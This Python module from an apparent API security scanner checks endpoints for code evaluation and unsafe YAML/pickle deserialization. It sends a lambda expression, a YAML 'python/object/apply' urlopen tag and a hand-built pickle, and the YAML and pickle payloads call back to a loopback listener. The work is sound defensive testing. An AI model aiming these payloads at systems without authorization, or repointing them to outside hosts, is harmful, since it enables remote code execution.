"""D416: is a value run as code of Python?

1. An expression that no calculator knows is sent: the digits of a product from the end. It counts where they stand in
   the answer, twice.
2. YAML and pickle are sent that, read by a loader which makes any object, ask a listener of our own on loopback. It
   counts where the listener was asked for the path that only this value had. Files are sent with the same in them.
"""

import base64
from collections.abc import AsyncGenerator, Callable
from contextlib import nullcontext
from functools import partial
from typing import Final

from buckler.drill.attack import About, Attack, Finding, Verdicts
from buckler.drill.attacks.aiming.aim import Aim
from buckler.drill.attacks.aiming.sending import fired, instead, instead_each, renewed, send, shots
from buckler.drill.attacks.input.products import Product
from buckler.drill.attacks.input.shown import shown_again
from buckler.drill.attacks.input.walk import finding, takes_text, walked
from buckler.drill.attacks.listener import Listener, listening, word
from buckler.drill.drafting.upload import Upload
from buckler.drill.engagement import Engagement
from buckler.drill.plan.route import MULTIPART, Route, Slot
from buckler.drill.transport.answer import Exchange

ABOUT: Final = About(
    id="D416",
    name="values are run as code",
    family="input",
    severity="critical",
    sends="An expression of Python, YAML and pickles that make a harmless object.",
    proves="Callers run code of their own on the server.",
    cwe=(95, 502),
    owasp=("API8",),
    asvs=("1.3.2", "1.5.2"),
    fix="Never `eval`, `pickle.loads` or `yaml.load` what callers send: `ast.literal_eval`, JSON, `yaml.safe_load`.",
)
_WITHIN: Final = 2


async def _verdicts(on: Engagement) -> Verdicts:
    with listening() if on.sender.is_near else nullcontext() as listener:
        async for verdict in walked(on, partial(_judge, listener), _takes_values, unasked=True):
            yield verdict


def _takes_values(on: Engagement, route: Route) -> bool:
    return takes_text(on, route) or (route.body is not None and route.body.media == MULTIPART)


async def _judge(listener: Listener | None, on: Engagement, aim: Aim) -> AsyncGenerator[Finding]:
    async for found in _expressions(on, aim):
        yield found
    if listener is not None:
        for make in (_yaml, _pickle):
            async for found in _objects(listener, on, aim, make):
                yield found
        async for found in _files(listener, on, aim):
            yield found


async def _expressions(on: Engagement, aim: Aim) -> AsyncGenerator[Finding]:
    products = {slot: Product() for slot in aim.slots}
    async for shot in shots(
        on, aim, instead_each({slot: _expression(each) for slot, each in products.items()}), aim.free
    ):
        for seen in (shot.exchange, *await shown_again(on, aim, shot.exchange)):
            for slot in shot.slots:
                if products[slot].backwards in seen.answer.text:
                    again = await _once_more(on, aim, slot)
                    if again is not None:
                        yield finding(aim, "An expression of Python is computed.", again, slot)


def _expression(product: Product) -> str:
    return f"(lambda q:str(q*{product.other})[::-1])({product.one})"


async def _once_more(on: Engagement, aim: Aim, slot: Slot) -> Exchange | None:
    product = Product()
    shot = await fired(on, aim, instead(_expression(product)), [slot])
    if shot is None:
        return None
    seen = (shot.exchange, *await shown_again(on, aim, shot.exchange))
    return next((each for each in seen if product.backwards in each.answer.text), None)


async def _objects(listener: Listener, on: Engagement, aim: Aim, make: Callable[[str], str]) -> AsyncGenerator[Finding]:
    words = {slot: word() for slot in aim.slots}
    payload = {slot: make(f"http://127.0.0.1:{listener.port}/{each}") for slot, each in words.items()}
    async for shot in shots(on, aim, instead_each(payload)):
        for slot in shot.slots:
            if listener.has_heard(words[slot]):
                yield finding(
                    aim, "An object that the value describes is made, and asks our listener.", shot.exchange, slot
                )


async def _files(listener: Listener, on: Engagement, aim: Aim) -> AsyncGenerator[Finding]:
    """Files that describe such an object, each as what its name says."""
    if aim.draft.media != MULTIPART:
        return
    for field in sorted(aim.draft.files):
        slot = Slot("form", (field,))
        for name, media, make in _KINDS:
            heard = word()
            content = make(f"http://127.0.0.1:{listener.port}/{heard}")
            draft = await renewed(on, aim)
            exchange = await send(on, aim, draft.put(slot, Upload(name, content, media)))
            if listener.has_heard(heard):
                words = "An object that the file describes is made, and asks our listener."
                yield finding(aim, words, exchange, f"{slot}, what is in it")
                break


def _yaml(url: str) -> str:
    return f"!!python/object/apply:urllib.request.urlopen ['{url}', null, {_WITHIN}]"


def _pickle(url: str) -> str:
    """A pickle of protocol 0 that calls `urlopen`, written by hand: reading it is what makes the call."""
    return base64.b64encode(_raw_pickle(url)).decode()


def _raw_pickle(url: str) -> bytes:
    return f"curllib.request\nurlopen\n(V{url}\nNI{_WITHIN}\ntR.".encode()


_KINDS: Final[tuple[tuple[str, str, Callable[[str], bytes]], ...]] = (
    ("drill.yaml", "application/yaml", lambda url: _yaml(url).encode()),
    ("drill.pkl", "application/octet-stream", _raw_pickle),
)


ATTACK: Final = Attack(ABOUT, _verdicts)
